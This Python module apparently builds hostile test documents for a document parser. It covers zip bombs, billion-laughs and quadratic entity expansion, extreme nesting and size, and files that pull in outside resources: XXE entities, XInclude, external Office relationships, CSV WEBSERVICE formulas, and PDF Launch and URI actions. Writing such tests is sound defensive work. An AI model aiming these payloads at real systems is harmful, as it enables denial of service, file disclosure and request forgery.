"""Documents of people who mean harm, one for each known way of doing it: too much, too deep, or pointing elsewhere."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

MANY = 1_000_000
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LAUGHS = "".join(
    f'<!ENTITY n{depth} "{f"&n{depth - 1};" * 10 if depth else "nauru " * 10}">' for depth in range(10)
)


def zipped(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def word(body: str = "", *, prolog: str = "", more: dict[str, bytes | str] | None = None) -> bytes:
    """A Word file with that body, in XML."""
    whole = f'{prolog}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return zipped({"word/document.xml": whole, **(more or {})})


def line(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def sheet(rows: str, *, prolog: str = "", more: dict[str, bytes | str] | None = None) -> bytes:
    return zipped({
        "xl/workbook.xml": '<w xmlns:r="r"><sheets><sheet name="a" r:id="r1"/></sheets></w>',
        "xl/_rels/workbook.xml.rels": '<R><R Id="r1" Type="x/worksheet" Target="worksheets/s1.xml"/></R>',
        "xl/worksheets/s1.xml": f"{prolog}<worksheet>{rows}</worksheet>", **(more or {}),
    })


def cell(place: str, text: str = "solu") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def open_text(body: str, *, prolog: str = "") -> bytes:
    return zipped({"META-INF/manifest.xml": "<manifest/>",
                   "content.xml": f"{prolog}<c><body><text>{body}</text></body></c>"})


def pdf(
    page: bytes, *, page_more: bytes = b"", extra: bytes = b"", stream_more: bytes = b"", filtered: bool = False
) -> bytes:
    """A PDF of one page with that content, without a table of places: readers find the objects themselves."""
    content = zlib.compress(page) if filtered else page
    return b"".join([
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ", extra, b" >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R ",
        b"/Resources << /Font << /F1 4 0 R >> >> ", page_more,
        b" >>\nendobj\n4 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>\nendobj\n",
        b"5 0 obj\n<< /Length %d " % len(content), b"/Filter /FlateDecode " if filtered else b"", stream_more,
        b" >>\nstream\n", content, b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
    ])


def message(body: str, kind: str = "text/plain", head: str = "") -> bytes:
    return f"Subject: kutsu\n{head}Content-Type: {kind}; charset=utf-8\n\n{body}".encode()


def overlapping() -> bytes:
    """A zip bomb whose parts share one packed stream: small, without a nested archive in it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"a" * 10_000_000) + packer.flush()
    check = zlib.crc32(b"a" * 10_000_000)
    head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, check, len(packed), 10_000_000, 17, 0)
    whole = head + b"word/document.xml" + packed
    names = [b"word/document.xml", *(b"word/part%08d" % number for number in range(1_000))]
    entries = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, check, len(packed), 10_000_000, len(name), 0, 0, 0, 0,
                    0, 0) + name
        for name in names
    )
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(names), len(names), len(entries), len(whole), 0)
    return whole + entries + end


def lying() -> bytes:
    """An archive whose part is larger than it says."""
    whole = bytearray(word(line("a" * MANY)))
    for mark, place in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        at = whole.index(mark) + place
        whole[at : at + 4] = struct.pack("<I", 50)
    return bytes(whole)


def endless() -> Iterator[tuple[str, bytes]]:
    """Too much of one thing."""
    for bracket in "([{<":
        yield f"{ord(bracket)}.txt", bracket.encode() * MANY
    yield "pairs.txt", b"()" * (MANY // 2)
    yield "brackets.md", b"[" * MANY
    yield "quotes.md", b"> " * (MANY // 2)
    yield "links.md", b"[a](" * (MANY // 4)
    yield "brackets.html", b"<p>" + b"[" * MANY
    yield "marks.html", b"<" * MANY
    yield "brackets.csv", b"(" * MANY
    yield "quotes.csv", b'"' * MANY
    yield "columns.csv", b";".join(b"sarake%d" % number for number in range(100_000)) + b"\n" + b";" * 99_999 + b"\n"
    yield "empty-columns.csv", b"a" + b";" * 100_000 + b"\nb" + b";" * 100_000 + b"\n"
    yield "columns.tsv", b"a\t" * 100_000 + b"\n"
    yield "brackets.rtf", b"{\\rtf1 " + b"{" * MANY
    yield "escapes.rtf", b"{\\rtf1 " + b"\\'" * MANY
    yield "binary.rtf", b"{\\rtf1 \\bin999999999 " + b"a" * 1_000
    yield "brackets.eml", message("(" * MANY)
    yield "subject.eml", b"Subject: " + b"=?utf-8?q?(?= " * 70_000 + b"\n\na"
    yield "headers.eml", b"X: a\n" * 200_000 + b"\na"
    yield "brackets.docx", word(line("(" * MANY))
    yield "span.docx", word('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>' + line("a")
                            + "</w:tc></w:tr></w:tbl>")
    yield "brackets.odt", open_text("<p>" + "(" * MANY + "</p>")
    yield "repeated.odt", open_text(
        '<table><table-row number-rows-repeated="999999999"><table-cell number-columns-repeated="999999999"><p>a</p>'
        "</table-cell></table-row></table>")
    yield "spaces.odt", open_text('<p>a<s c="999999999"/>b</p>')
    yield "brackets.xlsx", sheet(f"<sheetData><row>{cell('A1', '(' * 32_000) * 30}</row></sheetData>")
    yield "far.xlsx", sheet(f'<sheetData><row r="1">{cell("A1")}{cell("ZZZZZZ1")}</row>'
                            f'<row r="999999999">{cell("A999999999")}</row></sheetData>')
    yield "columns.xlsx", sheet("<sheetData><row>" + cell("A1") * 100_000 + "</row></sheetData>")
    yield "merged.xlsx", sheet(f'<sheetData><row r="1">{cell("A1")}</row></sheetData>'
                               '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    yield "brackets.pdf", pdf(b"BT /F1 4 Tf (" + b"\\(" * 200_000 + b") Tj ET")
    yield "operators.pdf", pdf(b"q " * MANY, filtered=True)
    yield "words.pdf", pdf(b"BT /F1 4 Tf " + b"1 0 Td (aa) Tj " * 100_000 + b"ET", filtered=True)
    yield "letters.txt", b"a" * MANY
    yield "capitals.txt", ("Ää" * (MANY // 2)).encode()
    yield "digits.txt", b"1" * MANY
    yield "dates.txt", b"1.1." * (MANY // 4)
    yield "hyphens.txt", b"a-" * (MANY // 2)
    yield "names.txt", "Matti Meikäläinen, ".encode() * 20_000
    yield "full-stops.txt", b". " * (MANY // 2)
    yield "combining.txt", ("a" + "\u0301" * (MANY // 2)).encode()


def deep() -> Iterator[tuple[str, bytes]]:
    """Things in things in things."""
    for depth in (1_000, 100_000):
        yield f"{depth}.html", b"<div>" * depth + b"a"
        yield f"{depth}-tables.html", b"<table><tr><td>" * depth + b"a"
        yield f"{depth}-lists.html", b"<ul><li>" * depth + b"a"
        yield f"{depth}-bold.html", b"<b>" * depth + b"a" + b"</b>" * depth
        yield f"{depth}.xhtml", b"<html><body>" + b"<x>" * depth + b"a" + b"</x>" * depth + b"</body></html>"
        yield f"{depth}.docx", word("<w:p>" * depth + "</w:p>" * depth)
        yield f"{depth}-tables.docx", word("<w:tbl><w:tr><w:tc>" * depth + line("a") + "</w:tc></w:tr></w:tbl>" * depth)
        yield f"{depth}.odt", open_text("<list><list-item>" * depth + "<p>a</p>" + "</list-item></list>" * depth)
        yield f"{depth}.xlsx", sheet("<sheetData>" * depth + "</sheetData>" * depth)
        yield f"{depth}.rtf", b"{\\rtf1 " + b"{\\b " * depth + b"a" + b"}" * depth + b"}"
        yield f"{depth}.md", b"".join(b" " * (2 * level) + b"- a\n" for level in range(min(depth, 1_000)))
        yield f"{depth}-quotes.md", b">" * depth + b" a"
        yield f"{depth}-bold.md", b"**a" * depth
        yield f"{depth}.pdf", pdf(b"BT /F1 9 Tf " + b"[" * depth + b"] TJ ET")
        yield f"{depth}-names.pdf", pdf(b"BT /F1 9 Tf (a) Tj ET", extra=b"/Names " + b"<< /A " * depth + b">>" * depth)
        parts = min(depth, 2_000)
        yield f"{depth}.eml", b"Subject: a\n" + b"".join(
            b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (level, level) for level in range(parts)
        ) + b"\na"


def swollen() -> Iterator[tuple[str, bytes]]:
    """Small outside, large inside."""
    laughing = f"<!DOCTYPE w [{LAUGHS}]>"
    quadratic = f'<!DOCTYPE w [<!ENTITY n "{"a" * 100_000}">]>'
    for kind, prolog, text in (("laughs", laughing, "&n9;"), ("quadratic", quadratic, "&n;" * 10_000)):
        yield f"{kind}.docx", word(line(text), prolog=prolog)
        yield f"{kind}.odt", open_text(f"<p>{text}</p>", prolog=prolog)
        yield f"{kind}.xlsx", sheet(f"<sheetData><row>{cell('A1', text)}</row></sheetData>", prolog=prolog)
        yield f"{kind}.html", f"{prolog}<html><body><p>{text}</p></body></html>".encode()
        yield f"{kind}.xhtml", f'<?xml version="1.0"?>{prolog}<html><body><p>{text}</p></body></html>'.encode()
    yield "bomb.docx", word(line("a" * 100 * MANY))
    yield "bomb.odt", open_text(f"<p>{'a' * 100 * MANY}</p>")
    yield "bomb.xlsx", sheet("<sheetData/>", more={"xl/sharedStrings.xml": b"<sst>" + b"<si/>" * 10 * MANY + b"</sst>"})
    yield "overlapping.docx", overlapping()
    yield "lying.docx", lying()
    yield "parts.docx", word(line("a"), more={f"a{number}": b"" for number in range(6_000)})
    yield "bomb.pdf", pdf(b"BT /F1 9 Tf (" + b"a" * 200 * MANY + b") Tj ET", filtered=True)
    packed = zlib.compress(zlib.compress(b"q " * 100 * MANY))
    yield "twice.pdf", pdf(packed, stream_more=b"/Filter [/FlateDecode /FlateDecode]")


def pointing(file: Path, address: str) -> Iterator[tuple[str, bytes]]:
    """Whatever may make a careless reader open a file or an address."""
    for kind, target in (("file", file.as_uri()), ("address", f"{address}/a")):
        entity = f'<!DOCTYPE w [<!ENTITY x SYSTEM "{target}">]>'
        parameter = f'<!DOCTYPE w [<!ENTITY % x SYSTEM "{target}"> %x;]>'
        subset = f'<!DOCTYPE w SYSTEM "{target}">'
        for number, (prolog, text) in enumerate(((entity, "a &x; b"), (parameter, "a"), (subset, "a &x;"))):
            yield f"{kind}{number}.docx", word(line(text), prolog=prolog)
            yield f"{kind}{number}.odt", open_text(f"<p>{text}</p>", prolog=prolog)
            yield f"{kind}{number}.xlsx", sheet(f"<sheetData><row>{cell('A1', text)}</row></sheetData>", prolog=prolog)
            yield f"{kind}{number}.html", f"{prolog}<html><body><p>{text}</p></body></html>".encode()
            page = f'<?xml version="1.0"?>{prolog}<html xmlns="http://www.w3.org/1999/xhtml"><body>{text}</body></html>'
            yield f"{kind}{number}.xhtml", page.encode()
        include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>'
        yield f"{kind}-include.docx", word(line("a") + include)
        yield f"{kind}-sheet.xhtml", f'<?xml-stylesheet href="{target}"?><html><body>a {include}</body></html>'.encode()
        relation = (f'<Relationships><Relationship Id="r1" TargetMode="External" Target="{target}" '
                    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>')
        for type_ in ("attachedTemplate", "image", "officeDocument", "subDocument"):
            yield f"{kind}-{type_}.docx", word(line("a"), more={
                "_rels/.rels": relation.format(type_), "word/_rels/document.xml.rels": relation.format(type_)})
        yield f"{kind}-link.xlsx", sheet(f"<sheetData><row>{cell('A1')}</row></sheetData>", more={
            "xl/_rels/workbook.xml.rels": relation.format("worksheet").replace("r1", "r1")})
        yield f"{kind}.page.html", (
            f'<html><head><base href="{target}"><link rel=stylesheet href="{target}"><meta http-equiv=refresh '
            f'content="0;url={target}"><script src="{target}"></script></head><body><p>a<img src="{target}"><iframe '
            f'src="{target}"></iframe><object data="{target}"></object></body></html>').encode()
        yield f"{kind}.md", f"a ![b]({target}) <img src={target}> [c]: {target}".encode()
        yield f"{kind}.csv", f'a;=WEBSERVICE("{target}")\n=IMPORTDATA("{target}");b\n'.encode()
        yield f"{kind}.rtf", (f'{{\\rtf1 a{{\\field{{\\*\\fldinst INCLUDETEXT "{target}"}}{{\\fldrslt b}}}}'
                              f'{{\\*\\template {target}}}}}').encode()
        yield f"{kind}.eml", (f"Subject: a\nContent-Type: message/external-body; access-type=URL; URL=\"{target}\"\n\n"
                              "Content-Type: text/plain\n\na").encode()
        yield f"{kind}-page.eml", message(f'<p>a<img src="{target}"></p>', "text/html")
        bare = str(file) if kind == "file" else target
        yield f"{kind}-stream.pdf", pdf(b"BT /F1 9 Tf (a) Tj ET", stream_more=f"/F ({bare}) /FFilter /None".encode())
        yield f"{kind}-action.pdf", pdf(
            b"BT /F1 9 Tf (a) Tj ET",
            extra=f"/OpenAction << /S /URI /URI ({target}) /Next << /S /Launch /F ({bare}) >> >>".encode(),
            page_more=f"/AA << /O << /S /GoToR /F ({bare}) /D [0 /Fit] >> >>".encode())
